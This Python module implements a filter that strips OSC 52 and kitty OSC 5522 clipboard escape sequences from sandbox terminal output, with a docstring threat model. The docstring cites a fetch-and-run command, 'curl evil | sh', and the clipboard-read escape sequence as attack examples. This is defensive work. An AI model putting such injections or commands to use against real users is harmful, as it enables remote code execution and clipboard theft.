"""The sandbox's terminal output, less what would reach the owner's clipboard.

Threat: the attach client writes what the shell in the sandbox prints to the owner's
own terminal, and most terminals honour OSC 52 (``ESC ] 52 ; c ; BASE64 BEL``): a write
puts any text in the owner's clipboard (``curl evil | sh``, pasted later into a host
shell), and where the terminal allows reading (``ESC ] 52 ; c ; ? BEL``) it answers
with the clipboard's content as typed input, which the client sends into the sandbox:
the owner's clipboard (a password just copied) read from inside. Both reach beyond the
terminal's window, which is all a program in a terminal should touch. kitty's
clipboard protocol (OSC 5522) does the same.

Defence: :class:`ClipboardFilter` (sans-I/O: bytes in, bytes out) drops every OSC 52
and OSC 5522 sequence whole, from its introducer (``ESC ]``, or U+009D as UTF-8) to
what ends it for a terminal (BEL, ``ESC \\``, ST, CAN, SUB, or any other ESC, which
starts a new sequence); a sequence split across reads is recognised all the same, so
nothing the terminal would take for one gets through. Everything else passes byte for
byte and in order (titles, colours, hyperlinks, other queries: their answers go into
the sandbox, which asked); a tmux or screen passthrough of OSC 52 holds the same
``ESC ] 52`` and is dropped too. Held back at most: a trailing ESC, ``0xC2`` or an
introducer with its first digits, none of which a terminal acts on before it sees more.

Not covered: a terminal in an 8-bit, non-UTF-8 mode also takes a raw 0x9D byte for OSC;
in UTF-8 output that byte is part of many characters, so it is left alone. Window
operations (``CSI 8 ; rows ; cols t`` and the like), which a few terminals still honour,
pass too.
"""

from __future__ import annotations

import re

# The OSC numbers whose sequences touch the clipboard: xterm's (52) and kitty's (5522).
CLIPBOARD_OSC = frozenset({b"52", b"5522"})
# An OSC number longer than this is none of them: pass it on without waiting for more.
MAX_OSC_DIGITS = 4
# Where an OSC starts: ESC ] (7-bit), or C1 OSC written as UTF-8 (terminals in UTF-8
# mode read U+009D as OSC; a raw 0x9D byte is only part of a character to them).
_INTRODUCER = re.compile(rb"\x1b\]|\xc2\x9d")
# What ends a string for a terminal: BEL, ST (ESC \, 0x9C, U+009C), CAN, SUB, or an ESC
# that starts something else (taken as the start of that, not swallowed).
_END = re.compile(rb"\x07|\x1b\\|\x9c|\x18|\x1a|\x1b(?=[^\\])")
# Bytes at the end of a read that may begin an introducer or an ST.
_PARTIAL = (b"\x1b", b"\xc2")


class ClipboardFilter:
    """Drops clipboard OSC sequences from a stream of terminal output, across reads."""

    def __init__(self) -> None:
        self._held = b""
        self._dropping = False

    def feed(self, data: bytes) -> bytes:
        """What of ``data`` (and of what was held back) may be shown now."""
        if (
            not self._held
            and not self._dropping
            and b"\x1b" not in data
            and b"\xc2\x9d" not in data
            and not data.endswith(_PARTIAL)
        ):
            return data  # most output: no introducer, nothing to hold (a memchr per read)
        buffer = self._held + data
        self._held = b""
        out = bytearray()
        at = 0
        while at < len(buffer):
            if self._dropping:
                end = _END.search(buffer, at)
                if end is None:
                    if buffer.endswith(_PARTIAL):  # maybe ESC \ or an ESC of what follows
                        self._held = buffer[-1:]
                    return bytes(out)
                self._dropping = False
                # An ESC that starts something else is kept for it; an ST is dropped.
                at = end.start() if end.group() == b"\x1b" else end.end()
                continue
            start = _INTRODUCER.search(buffer, at)
            if start is None:
                keep = len(buffer) - 1 if buffer.endswith(_PARTIAL) else len(buffer)
                out += buffer[at:keep]
                self._held = buffer[keep:]
                return bytes(out)
            out += buffer[at : start.start()]
            digits = start.end()
            while (
                digits < len(buffer)
                and 0x30 <= buffer[digits] <= 0x39
                and digits - start.end() <= MAX_OSC_DIGITS
            ):
                digits += 1
            number = buffer[start.end() : digits]
            if digits == len(buffer) and len(number) <= MAX_OSC_DIGITS:
                self._held = buffer[start.start() :]  # the number may go on in the next read
                return bytes(out)
            if number in CLIPBOARD_OSC:
                self._dropping = True
            else:
                out += buffer[start.start() : digits]
            at = digits
        return bytes(out)
